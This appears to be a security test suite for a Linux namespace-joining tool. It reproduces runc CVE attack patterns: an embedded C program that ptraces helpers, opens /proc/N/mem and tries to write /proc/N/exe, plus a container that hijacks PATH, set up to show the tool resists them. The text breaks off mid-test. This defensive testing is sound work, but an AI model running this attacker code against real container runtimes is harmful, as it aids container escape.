/**
 * Hardening against a hostile target, after runc's CVE history: no host fd reaches the
 * program, nothing inside can ptrace or open the helper (CVE-2016-9962), no host cwd
 * (CVE-2024-21626), the helper cannot be overwritten from inside (CVE-2019-5736), and a
 * target that exits or whose PID is reused is refused with nothing run.
 *
 * Attacks that scan /proc run in a pid namespace of their own made for the test
 * (`unshare -p --fork --mount-proc`, Deno its init), so they only ever see this test's
 * processes, and all of it dies with that Deno.
 */
import {
  closeNamespaceWorkers,
  containerExecOptions,
  findContainers,
  inNamespaces,
  NamespaceError,
  NsCommand,
  PinnedContainer,
  pinProcess,
  resolveContainer,
  resolveContainerUser,
  resolveTarget,
} from "../mod.ts";
import { libc } from "../ffi/libc.ts";
import { AT_FDCWD, close, getXattrs, O, openat2, setXattrs } from "../ffi/dirfd.ts";
import { helper, helperBytes } from "../ffi/helper.ts";
import {
  denoForUsers,
  engineExec,
  ensureImages,
  IMAGE,
  must,
  podmanUser,
  removeContainers,
  removeCtr,
  run,
  startContainer,
  startCtr,
} from "./_engines.ts";
import { CriRuntime, HAVE_CONTAINERD } from "./_cri.ts";
import {
  ALL_BUT_USER,
  assert,
  assertEquals,
  assertMatch,
  assertRejects,
  assertThrows,
  CI,
  makeTarget,
  NEEDS_ROOT,
  ROOT,
  runPiped,
  sh,
  testUser,
  text,
  userDeno,
} from "./_fixtures.ts";

const CLI = `${ROOT}cli.ts`;

/**
 * A process inside the target that keeps attacking every process that appears after it
 * starts, and every helper (argv[0] /proc/self/fd/N, a "--" argument) again on each pass:
 * mode "p" tries PTRACE_ATTACH and open(/proc/N/mem); mode "x" opens /proc/N/exe of a
 * helper for writing, and (before the execs start) the caller's memfd when given, and
 * writes the byte that is already there (proves writability without harm). SIGTERM ends
 * it; it prints counts.
 */
const ATTACKER_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
static unsigned char done[4194304 / 8];
#define GET(b, p) (b[(p) >> 3] & (1 << ((p) & 7)))
#define SET(b, p) (b[(p) >> 3] |= (unsigned char)(1 << ((p) & 7)))

static int is_helper(int pid) {
  char p[64], buf[8192];
  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  if (strncmp(buf, "/proc/self/fd/", 14) != 0 && !strstr(buf, "nsjoin-helper")) return 0;
  for (ssize_t i = 0; i + 2 < n; i++)
    if (buf[i] == 0 && buf[i + 1] == '-' && buf[i + 2] == '-' && buf[i + 3] == 0) return 1;
  return 0;
}

int main(int argc, char **argv) {
  int do_ptrace = strchr(argv[1], 'p') != 0, do_exe = strchr(argv[1], 'x') != 0;
  const char *memfd = argc > 2 ? argv[2] : 0;
  long seen_helper = 0, attach_helper = 0, attach_denied = 0, attach_other = 0, mem_helper = 0,
       mem_denied = 0, exe_open = 0, exe_denied = 0, exe_written = 0, memfd_written = 0,
       memfd_refused = 0, passes = 0;
  int me = getpid();
  signal(SIGTERM, on_term);
  /* The caller's memfd, while no helper runs: a writer held open during an exec would make
   * that exec fail (ETXTBSY), so this happens before the execs start. */
  for (int i = 0; memfd && i < 100; i++) {
    int fd = open(memfd, O_WRONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (pwrite(fd, "\x7f", 1, 0) == 1) memfd_written++;
    else if (errno == EPERM) memfd_refused++;
    close(fd);
  }
  printf("ready\n");
  fflush(stdout);
  for (int first = 1; !stop; first = 0) {
    passes++;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == me || pid >= 4194304) continue;
      if (first) { SET(done, pid); continue; }
      int helper = is_helper(pid);
      if (!helper && GET(done, pid)) continue;
      if (helper) seen_helper++;
      char p[64];
      if (do_ptrace) {
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
          int st;
          waitpid(pid, &st, __WALL);
          if (is_helper(pid)) attach_helper++; else { attach_other++; SET(done, pid); }
          ptrace(PTRACE_DETACH, pid, 0, 0);
          kill(pid, SIGCONT); /* the SIGSTOP of PTRACE_ATTACH may still be pending */
        } else if (helper) attach_denied++;
        snprintf(p, sizeof p, "/proc/%d/mem", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) { if (is_helper(pid)) mem_helper++; close(fd); }
        else if (helper) mem_denied++;
      }
      if (do_exe && helper) {
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int fd = open(p, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
          exe_open++;
          if (pwrite(fd, "\x7f", 1, 0) == 1) exe_written++;
          close(fd);
        } else exe_denied++;
      }
    }
    if (d) closedir(d);
    usleep(200);
  }
  printf("{\"passes\":%ld,\"seenHelper\":%ld,\"attachHelper\":%ld,\"attachDenied\":%ld,"
         "\"attachOther\":%ld,\"memHelper\":%ld,\"memDenied\":%ld,\"exeOpen\":%ld,"
         "\"exeDenied\":%ld,\"exeWritten\":%ld,\"memfdWritten\":%ld,\"memfdRefused\":%ld}\n",
         passes, seen_helper, attach_helper, attach_denied, attach_other, mem_helper, mem_denied,
         exe_open, exe_denied, exe_written, memfd_written, memfd_refused);
  return 0;
}
`;

interface Attack {
  passes: number;
  seenHelper: number;
  attachHelper: number;
  attachDenied: number;
  attachOther: number;
  memHelper: number;
  memDenied: number;
  exeOpen: number;
  exeDenied: number;
  exeWritten: number;
  memfdWritten: number;
  memfdRefused: number;
}

/** A scratch directory (removed after `fn`) with the attacker compiled into it. */
async function withScratch<T>(fn: (dir: string) => Promise<T>): Promise<T> {
  const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec-" });
  try {
    await Deno.writeTextFile(`${dir}/attacker.c`, ATTACKER_C);
    const cc = await new Deno.Command("gcc", {
      args: ["-O2", "-o", `${dir}/attacker`, `${dir}/attacker.c`],
      stdout: "null",
      stderr: "piped",
    }).output();
    if (!cc.success) throw new Error(`Cannot compile the attacker: ${text(cc.stderr)}`);
    return await fn(dir);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

/**
 * Runs a script as the init of a new pid namespace (with its own /proc): it and every
 * process it started die with it. Returns the script's last stdout line, parsed.
 */
async function inNewPidNamespace<T>(
  dir: string,
  script: string,
  args: string[] = [],
  env: Record<string, string> = {},
): Promise<T> {
  const file = `${dir}/script-${crypto.randomUUID()}.ts`;
  await Deno.writeTextFile(file, script);
  const out = await new Deno.Command("unshare", {
    args: [
      "-p",
      "--fork",
      "--mount-proc",
      "--kill-child",
      Deno.execPath(),
      "run",
      "-A",
      "--quiet",
      "--no-lock",
      file,
      ...args,
    ],
    env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const lines = text(out.stdout).trim().split("\n");
  if (!out.success) {
    throw new Error(`script failed (${out.code}): ${text(out.stderr)} ${text(out.stdout)}`);
  }
  return JSON.parse(lines[lines.length - 1]) as T;
}

const IMPORTS = `
import { NsCommand } from "${ROOT}src/command.ts";
import { pinProcess } from "${ROOT}src/target.ts";
import { helper } from "${ROOT}ffi/helper.ts";
const decode = (b: Uint8Array) => new TextDecoder().decode(b);
async function startAttacker(args: string[], cmdArgs: string[]) {
  const child = new Deno.Command("unshare", { args: [...args, ...cmdArgs], stdin: "null", stdout: "piped", stderr: "inherit" }).spawn();
  const reader = child.stdout.getReader();
  let buf = "";
  while (!buf.includes("ready\\n")) {
    const { value, done } = await reader.read();
    if (done) throw new Error("the attacker did not start");
    buf += decode(value);
  }
  return { pid: child.pid, async stop() {
    child.kill("SIGTERM");
    while (true) {
      const { value, done } = await reader.read();
      if (done) break;
      buf += decode(value);
    }
    await child.status;
    return JSON.parse(buf.trim().split("\\n").pop()!);
  } };
}
/** Helpers that live while the program runs (tty: the helper stays as the relay), then many short ones. */
async function execs(pid: number) {
  const codes = new Set<number>();
  for (let i = 0; i < 6; i++) {
    codes.add((await new NsCommand("sleep", { target: pid, args: ["0.2"], tty: true }).output()).code);
  }
  for (let i = 0; i < 150; i++) {
    codes.add((await new NsCommand("true", { target: pid }).output()).code);
  }
  return [...codes];
}
void pinProcess; void helper;
`;

function countFds(): number {
  return [...Deno.readDirSync("/proc/self/fd")].length;
}

Deno.test({
  name: "no host fd reaches the program, even with 50 inherited fds without CLOEXEC",
  ignore: NEEDS_ROOT,
  async fn(t) {
    await using target = await makeTarget();
    const p = String(target.pid);
    const fdsOf = (out: string) => out.trim().split(/\s+/).sort((a, b) => Number(a) - Number(b));
    for (const [name, ns] of [["all namespaces", "-a"], ["net only (host /proc)", "-n"]]) {
      await t.step(`CLI, ${name}: ls /proc/self/fd shows 0-2 and its own`, async () => {
        // bash hands fds 3-52 (no CLOEXEC) to Deno, which hands them to the helper.
        const script = `for i in $(seq 3 52); do eval "exec $i</etc/hostname"; done; ` +
          `ls /proc/self/fd | wc -l >&2; exec "$0" "$@"`;
        const out = await new Deno.Command("bash", {
          args: [
            "-c",
            script,
            Deno.execPath(),
            "run",
            "-A",
            "--quiet",
            "--no-lock",
            CLI,
            "enter",
            "-t",
            p,
            ns,
            "ls",
            "/proc/self/fd",
          ],
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(out.code, 0, text(out.stderr));
        assert(Number(text(out.stderr).trim()) >= 53, `bash held the fds: ${text(out.stderr)}`);
        assertEquals(fdsOf(text(out.stdout)), ["0", "1", "2", "3"]);
      });
    }
    await t.step("API: fds the caller opened without O_CLOEXEC stay outside", async () => {
      const path = new TextEncoder().encode("/etc/hostname\0");
      const fds: number[] = [];
      try {
        for (let i = 0; i < 50; i++) fds.push(libc().open(path, 0, 0));
        assert(fds.every((fd) => fd > 2), "opened");
        for (const tty of [false, true]) {
          const out = await new NsCommand("ls", {
            target: target.pid,
            args: ["/proc/self/fd"],
            tty,
          })
            .output();
          assertEquals(out.code, 0, text(out.stderr));
          assertEquals(fdsOf(text(out.stdout)), ["0", "1", "2", "3"], `tty: ${tty}`);
        }
        const kept = await new NsCommand("ls", {
          target: target.pid,
          args: ["/proc/self/fd"],
          keepFds: [fds[10]],
        }).output();
        assertEquals(
          fdsOf(text(kept.stdout)),
          ["0", "1", "2", "3", String(fds[10])].sort((a, b) => Number(a) - Number(b)),
        );
      } finally {
        for (const fd of fds) libc().close(fd);
      }
    });
  },
});

Deno.test({
  name: "nothing in the target can ptrace the helper or open its memory (CVE-2016-9962)",
  ignore: NEEDS_ROOT,
  async fn() {
    // The attacker is root of its own user namespace (host root outside, with no
    // capability over the host's): only the helper's non-dumpable flag stands between
    // it and the helper, which runs as the same uid once it has joined.
    const result = await withScratch((dir) =>
      inNewPidNamespace<{ codes: number[]; attack: Attack }>(
        dir,
        `${IMPORTS}
        const attacker = await startAttacker(["-U", "-r", "-n", "-u"], ["${dir}/attacker", "p"]);
        const codes = await execs(attacker.pid);
        console.log(JSON.stringify({ codes, attack: await attacker.stop() }));`,
      )
    );
    const a = result.attack;
    assertEquals(result.codes, [0], JSON.stringify(result));
    // The attack was real: it saw helpers (while they ran) and attached to the programs.
    assert(a.seenHelper > 0 && a.attachDenied > 0, `saw no helper: ${JSON.stringify(a)}`);
    assert(a.attachOther > 0, `attached to no program: ${JSON.stringify(a)}`);
    assertEquals(
      { attach: a.attachHelper, mem: a.memHelper },
      { attach: 0, mem: 0 },
      JSON.stringify(a),
    );
    assert(a.memDenied > 0, JSON.stringify(a));
  },
});

Deno.test({
  name: "the helper cannot be overwritten from inside: exe and memfd stay sealed (CVE-2019-5736)",
  ignore: NEEDS_ROOT,
  async fn() {
    // Root of the host's user namespace inside the target may open the helper's
    // /proc/N/exe and the caller's memfd (/proc/1/fd/N: Deno is init here); the seals
    // refuse the write.
    const result = await withScratch((dir) =>
      inNewPidNamespace<{ codes: number[]; attack: Attack; kind: string; intact: boolean }>(
        dir,
        `${IMPORTS}
        const h = helper();
        const memfd = "/proc/" + Deno.pid + "/fd/" + h.path.split("/").pop();
        const attacker = await startAttacker(["-m", "-n", "-u"], ["${dir}/attacker", "x", memfd]);
        const codes = await execs(attacker.pid);
        const attack = await attacker.stop();
        const now = Deno.readFileSync(h.path);
        const orig = (await import("${ROOT}ffi/helper.ts")).helperBytes();
        const intact = now.length === orig.length && now.every((b, i) => b === orig[i]);
        console.log(JSON.stringify({ codes, attack, kind: h.kind, intact }));`,
      )
    );
    const a = result.attack;
    assertEquals([result.kind, result.codes], ["memfd", [0]]);
    assert(a.seenHelper > 0 && a.exeOpen + a.exeDenied > 0, `no attempt: ${JSON.stringify(a)}`);
    assert(a.memfdRefused > 0, `the memfd was never reached: ${JSON.stringify(a)}`);
    assertEquals({ exe: a.exeWritten, memfd: a.memfdWritten }, { exe: 0, memfd: 0 });
    assert(result.intact, "the helper's bytes changed");
    // And from the host: the caller's own memfd refuses writes too.
    const h = helper();
    assertEquals(h.kind, "memfd");
    const fd = libc().open(new TextEncoder().encode(`${h.path}\0`), 1, /* O_WRONLY */ 0);
    try {
      assert(fd >= 0);
      assertEquals(Number(libc().write(fd, new Uint8Array([0x7f]), 1n)), -1);
    } finally {
      libc().close(fd);
    }
    assertEquals(Deno.readFileSync(h.path), helperBytes());
  },
});

Deno.test({
  name: "no cwd outside the target's mount tree (CVE-2024-21626)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-hostdir-" });
    try {
      await t.step("-w HOSTDIR without --root: refused, nothing runs", async () => {
        await using target = await makeTarget();
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", CLI, "enter", "-t", String(target.pid)]
            .concat(["-a", `--wd=${dir}`, "touch", "ran"]),
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).output();
        const err = text(out.stderr);
        assertEquals(out.code, 125, err);
        assertEquals(err.trim().split("\n").length, 1, err);
        assertMatch(err, /outside the target's root/);
        assertEquals([...Deno.readDirSync(dir)].length, 0, "the program ran in the host dir");
      });
      await t.step("-W /proc/self/fd/7 with a leaked host dir fd: getcwd catches it", async () => {
        // No pid namespace and no own /proc: /proc/self/fd/7 inside resolves to the
        // helper's fd 7, a host directory the caller leaked (runc's WORKDIR shape).
        await using target = await makeTarget({ flags: ["-m", "-n", "-u"] });
        const out = await new Deno.Command("bash", {
          args: [
            "-c",
            `exec 7<"$1"; shift; exec "$@"`,
            "bash",
            dir,
            Deno.execPath(),
            "run",
            "-A",
            "--quiet",
            "--no-lock",
            CLI,
            "enter",
            "-t",
            String(target.pid),
            "-a",
            "-W",
            "/proc/self/fd/7",
            "touch",
            "ran",
          ],
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).output();
        const err = text(out.stderr);
        assertEquals(out.code, 125, err);
        assertEquals(err.trim().split("\n").length, 1, err);
        assertMatch(err, /outside the target's root/);
        assertEquals([...Deno.readDirSync(dir)].length, 0, "the program ran in the host dir");
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/** The recycling scenario, run as init of a new pid namespace. */
const RECYCLE_SCRIPT = `${IMPORTS}
const marker = Deno.args[0];
const spawn = (args: string[]) =>
  new Deno.Command("unshare", { args, stdin: "null", stdout: "null", stderr: "null" }).spawn();
const waitExec = (pid: number) => {
  for (let i = 0; i < 500; i++) {
    try { if (Deno.readTextFileSync("/proc/" + pid + "/comm").trim() === "sleep") return; } catch { /* */ }
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2);
  }
};
const a = spawn(["-n", "sleep", "1000"]);
await new Promise((r) => setTimeout(r, 50));
waitExec(a.pid);
let inode: number;
{
  using pinned = pinProcess(a.pid);
  inode = Deno.statSync("/proc/self/fd/" + pinned.pidfd).ino;
}
const cmd = new NsCommand("touch", { target: a.pid, args: [marker] });
cmd.helperArgs; // resolved and pinned now
a.kill("SIGKILL");
await a.status;
let b = spawn(["-u", "sleep", "1000"]);
for (let i = 0; i < 20 && b.pid !== a.pid; i++) {
  b.kill("SIGKILL");
  await b.status;
  Deno.writeTextFileSync("/proc/sys/kernel/ns_last_pid", String(a.pid - 1));
  b = spawn(["-u", "sleep", "1000"]);
}
await new Promise((r) => setTimeout(r, 50));
const api = await cmd.output();
const cli = await new Deno.Command(Deno.execPath(), {
  args: ["run", "-A", "--quiet", "--no-lock", "${CLI}", "enter", "-t", a.pid + ":" + inode, "-a", "touch", marker],
  stdin: "null", stdout: "piped", stderr: "piped",
}).output();
let ranAfterRefusals = true;
try { Deno.statSync(marker); } catch { ranAfterRefusals = false; }
const fresh = await new NsCommand("touch", { target: b.pid, args: [marker] }).output();
let ranFresh = true;
try { Deno.statSync(marker); } catch { ranFresh = false; }
b.kill("SIGKILL");
await b.status;
console.log(JSON.stringify({
  recycled: a.pid === b.pid, pid: a.pid,
  api: { code: api.code, stderr: decode(api.stderr) },
  cli: { code: cli.code, stderr: decode(cli.stderr) },
  ranAfterRefusals, fresh: fresh.code, ranFresh,
}));
`;

/** What {@link RECYCLE_SCRIPT} prints. */
interface RecycleResult {
  recycled: boolean;
  pid: number;
  api: { code: number; stderr: string };
  cli: { code: number; stderr: string };
  ranAfterRefusals: boolean;
  fresh: number;
  ranFresh: boolean;
}

/** Runs the recycling scenario in a new pid namespace. */
async function recycle(env: Record<string, string> = {}): Promise<RecycleResult> {
  const dir = await Deno.makeTempDir({ prefix: "nsjoin-recycle-" });
  try {
    return await inNewPidNamespace<RecycleResult>(dir, RECYCLE_SCRIPT, [`${dir}/ran`], env);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

/**
 * The PID reuse was refused by the API (start time) and the CLI (PID:inode). Without pidfs
 * the CLI refuses PID:inode itself (every pidfd is one anonymous inode, which would match any
 * process: stop 27), as nsenter does.
 */
function assertRecycleRefused(r: RecycleResult, noPidfs = false): void {
  assert(r.recycled, "the PID was not reused; the scenario did not happen");
  assertEquals(r.api.code, 125, r.api.stderr);
  assertEquals(r.api.stderr.trim().split("\n").length, 1, r.api.stderr);
  assertMatch(r.api.stderr, /its PID now belongs to another process/);
  assertEquals(r.cli.code, 125, r.cli.stderr);
  assertEquals(r.cli.stderr.trim().split("\n").length, 1, r.cli.stderr);
  assertMatch(
    r.cli.stderr,
    noPidfs
      ? /this kernel's pidfds have no inode of their own/
      : new RegExp(`pid ${r.pid} is now another process`),
  );
  assertEquals(r.ranAfterRefusals, false, "the program ran in the process that reused the PID");
  // The new process itself is joinable: the refusals came from the pin, nothing else.
  assertEquals([r.fresh, r.ranFresh], [0, true]);
}

Deno.test({
  name: "a PID reused between resolve and join is refused (pidfs inode, start time, PID:inode)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    await t.step("the helper checks the pidfs inode (Linux 6.9+)", async () => {
      assertRecycleRefused(await recycle());
    });
    await t.step("the helper checks the start time (kernels without pidfs)", async () => {
      assertRecycleRefused(await recycle({ NSJOIN_NO_PIDFS: "1" }), true);
    });
  },
});

Deno.test({
  name: "a target that dies mid-join: a clean 125, nothing run, nothing leaked",
  ignore: NEEDS_ROOT,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-midjoin-" });
    // Warm up (helper memfd, libc) before counting fds; the target's own pidfd (held by
    // Deno for unshare) is gone again once it is reaped.
    await new NsCommand("true", { target: Deno.pid, namespaces: ["net"] }).output();
    const fdsBefore = countFds();
    const nsBefore = Deno.readLinkSync("/proc/self/ns/net");
    const target = await makeTarget();
    try {
      const N = 400;
      const results: { code: number; stderr: string }[] = [];
      let next = 0;
      let finished = 0;
      const killAt = 60;
      const worker = async () => {
        while (next < N) {
          const i = next++;
          try {
            const out = await new NsCommand("sh", {
              target: target.pid,
              args: ["-c", `touch ${dir}/m${i}`],
            }).output();
            results[i] = { code: out.code, stderr: text(out.stderr) };
          } catch (error) {
            // Found gone while planning: the CLI prints this line and exits 125.
            if (!(error instanceof NamespaceError)) throw error;
            results[i] = { code: 125, stderr: `nsjoin: ${error.message}\n` };
          }
          if (++finished === killAt) Deno.kill(target.pid, "SIGKILL");
        }
      };
      await Promise.all(Array.from({ length: 8 }, worker));
      await target.kill();
      const counts: Record<number, number> = {};
      for (const [i, r] of results.entries()) {
        counts[r.code] = (counts[r.code] ?? 0) + 1;
        let ran = true;
        try {
          Deno.statSync(`${dir}/m${i}`);
        } catch {
          ran = false;
        }
        if (r.code === 0) assert(ran, `exec ${i} succeeded without running`);
        else if (r.code === 125) {
          assertEquals(r.stderr.trim().split("\n").length, 1, r.stderr);
          assertMatch(
            r.stderr,
            /^nsjoin: Cannot .*(target exited|init process has exited|find process|a zombie)/,
          );
          assertEquals(ran, false, `exec ${i} ran although it reported 125: ${r.stderr}`);
        } else {
          // Killed with the pid namespace after it started (its init died).
          assertEquals(r.code, 137, r.stderr);
        }
      }
      assert(counts[0] >= killAt - 8 && counts[125] > 0, JSON.stringify(counts));
      assertEquals(countFds(), fdsBefore, "fds leaked in the caller");
      const zombies = [...Deno.readDirSync("/proc")].filter((e) => /^\d+$/.test(e.name))
        .filter((e) => {
          try {
            const stat = Deno.readTextFileSync(`/proc/${e.name}/stat`);
            const f = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
            return f[0] === "Z" && Number(f[1]) === Deno.pid;
          } catch {
            return false;
          }
        });
      assertEquals(zombies.length, 0, "zombie children left");
      for (const task of Deno.readDirSync("/proc/self/task")) {
        assertEquals(Deno.readLinkSync(`/proc/self/task/${task.name}/ns/net`), nsBefore);
      }
    } finally {
      await target.kill();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- issue 9: listing
// A user in their own user+mount namespace bind-mounts a network namespace, then hides the
// mount point under a tmpfs holding a FIFO, or a symlink to a root-only host FIFO; and
// covers its /proc with a FIFO at /proc/meminfo. Root's `ls` and `inspect` reach those
// paths through /proc/PID/root: they must finish, and never open what the user planted.
import { runPiped as runPipedListing } from "./_fixtures.ts";

/** Runs the CLI, killed (SIGTERM) after 20 s: a hang shows up as `hung: true`. */
async function _cliGuarded(
  args: string[],
): Promise<{ code: number; stdout: string; hung: boolean }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--quiet", "--no-lock", CLI, ...args],
    env: { NO_COLOR: "1" },
    stdin: "null",
    stdout: "piped",
    stderr: "null",
  }).spawn();
  let hung = false;
  const timer = setTimeout(() => {
    hung = true;
    child.kill("SIGKILL");
  }, 20_000);
  const out = await child.output();
  clearTimeout(timer);
  return { code: out.code, stdout: text(out.stdout), hung };
}

/** A user's user+mount namespace with a net namespace bind-mounted at /mnt/d/f, then hidden. */
async function _hiddenNetns(plant: string) {
  const target = await makeTarget({
    flags: ["-Urm"],
    user: { uid: 65534, gid: 65534 },
    setup: [
      "mount -t tmpfs t /mnt",
      "mkdir /mnt/d",
      "touch /mnt/d/f",
      "unshare -n mount --bind /proc/self/ns/net /mnt/d/f",
      "mount -t tmpfs t /mnt/d",
      plant,
    ].join(" && "),
  });
  const line = Deno.readTextFileSync(`/proc/${target.pid}/mountinfo`).split("\n")
    .find((l) => l.includes(" /mnt/d/f ") && l.includes(" - nsfs "));
  if (!line) throw new Error("the attacker's nsfs mount is not in its mountinfo");
  const ino = Number(line.split(" ")[3].slice(5, -1));
  return { target, ino };
}

Deno.test({
  name: "ls -t net finishes when a user hides a FIFO at its netns mount point",
  ignore: NEEDS_ROOT,
  async fn() {
    const { target, ino } = await _hiddenNetns("mkfifo /mnt/d/f");
    try {
      const r = await _cliGuarded(["ls", "-t", "net", "-J", "-o", "NS,PATH,NSFS"]);
      assertEquals(r.hung, false, "ls hung on the FIFO");
      assertEquals(r.code, 0);
      const row = JSON.parse(r.stdout).namespaces.find((n: { ns: number }) => n.ns === ino);
      // Still listed (mountinfo names it), by the path that was not opened.
      assertEquals(row?.path, `/proc/${target.pid}/root/mnt/d/f`);
    } finally {
      await target.kill();
    }
  },
});

Deno.test({
  name: "ls -t net never opens the root-only host file a user's hidden mount point links to",
  ignore: NEEDS_ROOT,
  async fn() {
    const dir = Deno.makeTempDirSync({ dir: "/root", prefix: "nsjoin-ls-secret-" });
    Deno.chmodSync(dir, 0o700);
    const fifo = `${dir}/fifo`;
    await runPipedListing("mkfifo", { args: ["-m", "600", fifo] });
    const { target } = await _hiddenNetns(`ln -s ${fifo} /mnt/d/f`);
    // Prints "opened" once anything opens the FIFO for reading.
    const writer = new Deno.Command("sh", {
      args: ["-c", `exec 3>${fifo}; echo opened`],
      stdout: "piped",
      stderr: "null",
    }).spawn();
    try {
      const r = await _cliGuarded(["ls", "-t", "net"]);
      assertEquals(r.hung, false, "ls hung");
      assertEquals(r.code, 0);
    } finally {
      try {
        writer.kill("SIGKILL");
      } catch {
        // It exited: something opened the FIFO (asserted below).
      }
      const out = text((await writer.output()).stdout);
      await target.kill();
      Deno.removeSync(dir, { recursive: true });
      assertEquals(out, "", "ls opened the host FIFO the user's symlink points to");
    }
  },
});

Deno.test({
  name: "inspect PID finishes when the process's /proc/meminfo is a FIFO",
  ignore: NEEDS_ROOT,
  async fn() {
    await using target = await makeTarget({
      flags: ["-Urm"],
      user: { uid: 65534, gid: 65534 },
      setup: "mount -t tmpfs t /proc && mkfifo /proc/meminfo",
    });
    const r = await _cliGuarded(["inspect", "--json", String(target.pid)]);
    assertEquals(r.hung, false, "inspect hung on the FIFO");
    assertEquals(r.code, 0);
    // Its own meminfo is refused (not a regular file): what `free` shows is the caller's.
    assertEquals(JSON.parse(r.stdout).target.memory.free.source, "/proc/meminfo");
  },
});

// ---- issue 9: exec engine

const HAVE_DOCKER = (() => {
  try {
    return new Deno.Command("docker", { args: ["version"], stdout: "null", stderr: "null" })
      .outputSync().success;
  } catch {
    return false;
  }
})();
const DOCKER_IMAGE = "nsjoin-busybox:1";

/** Whether a process is gone (reaped or a zombie). */
function gone(pid: number): boolean {
  try {
    const stat = Deno.readTextFileSync(`/proc/${pid}/stat`);
    return /^[ZX]/.test(stat.slice(stat.lastIndexOf(")") + 2));
  } catch {
    return true;
  }
}

/** Polls `ok` for at least `ms` (30 s unless told: a loaded machine takes seconds). */
async function waitFor(what: string, ok: () => boolean, ms = 30_000): Promise<void> {
  // The state seen is the answer: asking again could catch a process in its next step (a
  // cmdline read mid-execve is empty).
  for (let t = 0; t < ms; t += 20) {
    if (ok()) return;
    await new Promise((r) => setTimeout(r, 20));
  }
  assert(ok(), `timed out waiting for ${what}`);
}

/** The first child of `pid` (a helper that forked), once it has one running `comm`. */
async function childOf(pid: number, comm: string): Promise<number> {
  let found = 0;
  await waitFor(`a ${comm} child of ${pid}`, () => {
    try {
      const kids = Deno.readTextFileSync(`/proc/${pid}/task/${pid}/children`).trim().split(/\s+/);
      found = Number(
        kids.find((k) => {
          try {
            return Deno.readTextFileSync(`/proc/${k}/comm`).trim() === comm;
          } catch {
            return false;
          }
        }) ?? 0,
      );
    } catch {
      found = 0;
    }
    return found > 0;
  });
  return found;
}

Deno.test({
  name: "exec -n net: a PATH the container points into its overlay never runs a host program",
  ignore: NEEDS_ROOT || (!HAVE_DOCKER && Deno.env.get("CI") !== "true"),
  async fn(t) {
    const name = `nsjb-path-${crypto.randomUUID().slice(0, 8)}`;
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-path-" });
    const marker = `${dir}/planted-ran`;
    // The container plants /evil/ip, which the host sees under its overlay upper dir, and
    // re-execs itself with PATH naming that host path first; its /etc/group also makes
    // "app" a member of gid 42 (shadow on Debian hosts).
    const script = [
      `upper=$(grep ' / / ' /proc/self/mountinfo | sed 's/.*upperdir=\\([^,]*\\).*/\\1/')`,
      "mkdir -p /evil",
      `printf '#!/bin/sh\\ntouch ${marker}\\n' > /evil/ip`,
      "chmod 755 /evil/ip",
      "echo shadowish:x:42:app >> /etc/group",
      'exec env PATH="$upper/evil:/usr/bin:/bin" sleep 100000',
    ].join("; ");
    const run = await new Deno.Command("docker", {
      args: ["run", "-d", "--name", name, DOCKER_IMAGE, "sh", "-c", script],
      stdout: "piped",
      stderr: "piped",
    }).output();
    assert(run.success, text(run.stderr));
    try {
      const pid = Number(
        text(
          (await new Deno.Command("docker", { args: ["inspect", "-f", "{{.State.Pid}}", name] })
            .output()).stdout,
        ).trim(),
      );
      await waitFor("the container's re-exec", () => {
        try {
          return Deno.readTextFileSync(`/proc/${pid}/environ`).includes("/evil:");
        } catch {
          return false;
        }
      });
      const upper = Deno.readTextFileSync(`/proc/${pid}/environ`).match(/PATH=([^:\0]*)/)![1];
      assert(Deno.statSync(`${upper}/ip`).isFile, "the planted ip is visible on the host");
      for (const target of [String(pid), `docker:${name}`]) {
        await t.step(
          `exec -n net ${target === String(pid) ? "PID" : "docker:NAME"} ip: the host's ip`,
          async () => {
            const out = await new Deno.Command(Deno.execPath(), {
              args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-n", "net", target]
                .concat(["ip", "-br", "link"]),
              stdin: "null",
              stdout: "piped",
              stderr: "piped",
            }).output();
            assertEquals(out.code, 0, text(out.stderr));
            assertMatch(text(out.stdout), /^lo\s/m);
            assert(!(await exists(marker)), "the container's planted ip ran on the host");
          },
        );
      }
      await t.step(
        "-u app without mnt: refused (its /etc/group would pick host gid 42)",
        async () => {
          const out = await new Deno.Command(Deno.execPath(), {
            args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-n", "net", "-u", "app"]
              .concat([`docker:${name}`, "id", "-G"]),
            stdin: "null",
            stdout: "piped",
            stderr: "piped",
          }).output();
          assertEquals(out.code, 2, text(out.stderr));
